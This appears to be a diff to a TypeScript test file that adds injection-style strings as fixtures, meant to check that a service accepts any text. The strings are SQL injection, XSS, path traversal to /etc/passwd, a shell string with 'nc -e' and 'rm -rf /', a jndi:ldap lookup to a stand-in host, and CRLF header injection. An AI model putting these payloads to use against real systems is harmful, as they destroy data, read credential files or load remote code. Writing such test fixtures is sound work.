@@ -28,6 +28,17 @@ const TEXTS: readonly (readonly [string, string])[] = [
   ["padded", " a "],
   ["null-word", "null"],
   ["number-word", "0"],
+  // What careless filters in front of a service refuse, though it is a text like any other.
+  ["query-language", "SELECT * FROM users; DROP TABLE users;-- ' OR '1'='1"],
+  ["script", "<script>alert(1)</script> javascript:alert(1) onerror=alert(1)"],
+  ["path-like", "../../../../etc/passwd /bin/sh C:\\Windows\\system32"],
+  ["shell", "$(cat /etc/passwd); `id` | nc -e && rm -rf / # \u0024{IFS}"],
+  ["template", "{{7*7}} \u0024{7*7} #{7*7} <%= 7*7 %> \u0024{jndi:ldap://a.example/x}"],
+  ["percent", "100% %00 %2e%2e%2f %zz a%20b"],
+  ["header-like", "a\r\nSet-Cookie: a=b\r\n\r\nGET / HTTP/1.1"],
+  ["json-like", '{"a":[1,"b"]}'],
+  ["address", "https://user@a.example:8080/?a=b&c=d#e mailto:a@b.example"],
+  ["rude", "free money casino viagra 免费 发票 赌博"],
 ];
 
 /** Texts of every width: counted in code points, neither in bytes nor in UTF-16 units, and never refused for what they say. */
